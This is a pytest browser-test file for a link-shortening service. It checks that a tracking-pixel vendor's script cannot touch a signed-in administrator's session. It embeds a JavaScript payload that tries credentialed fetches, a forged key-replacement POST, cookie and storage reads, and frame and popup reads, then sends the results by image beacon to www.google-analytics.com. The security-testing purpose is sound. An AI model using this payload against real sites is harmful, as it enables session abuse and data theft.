"""A vendor's script that attacks the service, in the Chromium of a signed-in administrator."""

from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler
from urllib.parse import parse_qs, urlsplit

import pytest
from selenium import webdriver
from selenium.webdriver.support.wait import WebDriverWait

from linkmgr.core.web import passwords
from tests.conftest import Client
from tests.support import foreign, interstitials, vendors
from tests.support.browser import Browser
from tests.support.factories import Sql
from tests.support.shortlinks import TARGET, Make

HOME = "www.google-analytics.com"  # the URL to which a Tag Manager container would send stolen data
# Each attack returns the data that it obtained. An attack that throws, or returns nothing, was blocked.
ATTACKS = """
const service = "%s";
const replace = service + "/account/key/replace";
const post = { method: "POST", credentials: "include" };
const read = (frame) => frame.document.documentElement.outerHTML;
const loaded = (element) => new Promise((done) => { element.onload = done; });
const submit = (target) => {
  const form = document.createElement("form");
  Object.assign(form, { method: "post", action: replace, target });
  document.body.append(form);
  form.submit();
};
const attacks = {
  fetch: async () => (await fetch(service + "/account", { credentials: "include" })).text(),
  post: async () => (await fetch(replace, post)).text(),
  blind: async () => fetch(replace, { ...post, mode: "no-cors" }),
  cookie: () => document.cookie,
  storage: () => localStorage.length + " stored",
  parent: () => parent === window ? "" : read(parent),
  opener: () => opener ? read(opener) : "",
  worker: async () => (await navigator.serviceWorker.register("/static/go.js")).scope,
  frame: async () => {
    const frame = document.createElement("iframe");
    frame.src = service + "/account";
    document.body.append(frame);
    await loaded(frame);
    return read(frame.contentWindow);
  },
  source: async () => {
    const frame = document.createElement("iframe");
    frame.srcdoc = "<p>ours";
    document.body.append(frame);
    await loaded(frame);
    return frame.contentWindow.origin === "null" ? "" : frame.contentWindow.origin;
  },
  popup: async () => {
    const popup = open(service + "/account");
    await new Promise((done) => setTimeout(done, 500));
    return popup ? read(popup) : "";
  },
  form: () => submit("_self") ?? "",
  form_above: () => submit("_top") ?? "",
  above: () => { top.location.href = service + "/account"; return ""; },
};
(async () => {
  const report = (name, got) => {
    new Image().src = `https://%s/sent?name=${name}&got=${encodeURIComponent(String(got).slice(0, 500))}`;
  };
  report("page", location.href);
  report("referrer", document.referrer);
  for (const [name, attack] of Object.entries(attacks)) {
    const patience = new Promise((done) => setTimeout(() => done(""), 700));
    report(name, await Promise.race([Promise.resolve().then(attack).catch(() => ""), patience]));
  }
  report("done", "");
})();
"""


class Attacker:
    """A vendor with a script that runs ATTACKS."""

    def __init__(self) -> None:
        self.script = ""
        self.reports: dict[str, str] = {}

    def answer(self, request: BaseHTTPRequestHandler) -> None:
        asked = urlsplit(request.path)
        if asked.path == "/sent":
            query = parse_qs(asked.query, keep_blank_values=True)
            self.reports[query["name"][0]] = query["got"][0]
        foreign.answering(self.script.encode(), Content_Type="text/javascript")(request)


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Attacker, webdriver.Chrome]]:
    attacker = Attacker()
    with vendors.all_hosts(tmp_path_factory, attacker.answer) as chromium:
        yield attacker, chromium


@pytest.fixture
def attacker(attacked: tuple[Attacker, webdriver.Chrome], base: str) -> Attacker:
    found = attacked[0]
    found.script = ATTACKS % (base, HOME)
    found.reports = {}
    return found


@pytest.fixture
def administrator(attacked: tuple[Attacker, webdriver.Chrome], base: str, admin: Client) -> Iterator[Browser]:
    """A browser signed in by a login link, so that the key can be replaced without a password."""
    found = Browser(attacked[1])
    url: str = admin.get(f"/api/user/login/{admin.id}").get_json()["url"]
    found.open(f"{base}/login/{url.rsplit('/', 1)[1]}")
    found.wait_for("/console")
    yield found
    found.complaints()  # left by the attacks; no other test may see it
    found.open("about:blank")


@pytest.fixture
def visit(
    attacked: tuple[Attacker, webdriver.Chrome], base: str, sql: Sql, alice: Client
) -> Iterator[Callable[..., str]]:
    """Return a function that opens a link of alice with a Tag Manager container and returns the URL of the link."""
    ids = {
        "splash_id": interstitials.splash(sql, alice.id, counter=60),
        "overlay_id": interstitials.overlay(sql, alice.id, "contact"),
    }
    with foreign.server(foreign.answering(b"<!doctype html><h1>The shop", Content_Type="text/html")) as port:

        def open_link(type_: str, path: str = "") -> str:
            pixels = (("gtmpixel", "GTM-1"),)
            alias = interstitials.add_link(sql, alice.id, type_, f"http://shop.test:{port}/", pixels, **ids)
            attacked[1].get(f"{base}/{alias}{path}")
            return f"{base}/{alias}"

        yield open_link


@pytest.mark.browser
@pytest.mark.parametrize("type_", ["splash", "frame", "overlay"])
def test_a_vendors_script_has_no_access_to_the_service(
    administrator: Browser, attacker: Attacker, visit: Callable[..., str], admin: Client, type_: str
) -> None:
    address = visit(type_)
    WebDriverWait(administrator.driver, 120, 0.1).until(lambda _: "done" in attacker.reports)
    page, referrer = attacker.reports.pop("page"), attacker.reports.pop("referrer")
    assert {name: got for name, got in attacker.reports.items() if got} == {}
    assert len(attacker.reports) == 15, "every attack ran"
    assert (page, referrer) == (f"{address}/pixels", address)
    assert administrator.driver.current_url == address
    assert admin.get("/api/account").status_code == 200, "the key is still the same"
    administrator.find("[data-target], .top .button").click()
    administrator.wait_for("/")
    assert "shop.test" in administrator.driver.current_url


@pytest.mark.browser
def test_the_visitor_of_an_attacking_pixel_arrives(
    administrator: Browser, attacker: Attacker, visit: Callable[..., str], admin: Client
) -> None:
    address = visit("direct")
    WebDriverWait(administrator.driver, 120, 0.05).until(lambda found: "shop.test" in found.current_url)
    assert attacker.reports["page"] == f"{address}/pixels"
    assert admin.get("/api/account").status_code == 200


@pytest.mark.browser
def test_the_page_of_pixels_is_as_harmless_when_it_is_opened_alone(
    administrator: Browser, attacker: Attacker, visit: Callable[..., str], admin: Client
) -> None:
    visit("direct", "/pixels")
    WebDriverWait(administrator.driver, 120, 0.05).until(lambda _: "cookie" in attacker.reports)
    held_off = ("fetch", "post", "blind", "cookie")
    assert {name: attacker.reports[name] for name in held_off} == dict.fromkeys(held_off, "")
    assert admin.get("/api/account").status_code == 200


PIXEL = """
    WITH pixel AS (
        INSERT INTO pixels (user_id, type, name, tag) VALUES (%(user_id)s, 'bing', 'Shop', '17') RETURNING id)
    UPDATE links SET pixels = ARRAY[pixel.id] FROM pixel WHERE links.id = %(link_id)s RETURNING 1
"""


def test_only_a_link_with_counted_visits_and_pixels_has_a_page_of_pixels(short: Make, sql: Sql, alice: Client) -> None:
    plain, firing, over = short(), short(metatitle="Sale"), short(expiry="2020-01-01 00:00:00+00")
    for link in (firing, over):
        sql(PIXEL, user_id=alice.id, link_id=link.id)
    assert [link.ask(path="/pixels").status_code for link in (plain, over)] == [404, 404]
    page = firing.ask(path="/pixels")
    assert (page.status_code, page.headers["Cache-Control"]) == (200, "no-store")
    assert "<title>Sale</title>" in page.text
    assert 'data-tag="17"' in page.text
    assert firing.clicks == 0


def test_the_pixels_of_a_link_with_a_password_do_not_reveal_its_target(short: Make, sql: Sql, alice: Client) -> None:
    locked = short(metatitle="Secret sale", password_hash=passwords.hashed("open sesame"))
    sql(PIXEL, user_id=alice.id, link_id=locked.id)
    page = locked.ask(path="/pixels").text
    assert f"<title>{locked.alias}</title>" in page
    assert "Secret sale" not in page
    assert str(urlsplit(TARGET).hostname) not in page
